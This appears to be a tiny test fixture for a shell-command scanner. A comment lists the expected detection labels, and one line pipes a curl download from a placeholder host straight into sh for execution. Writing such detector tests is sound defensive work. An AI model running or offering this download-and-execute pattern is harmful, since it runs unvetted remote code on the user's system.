# want: sh.exec.download sh.network.tool
sh -c "$(curl -fsSL https://example.invalid/x)"
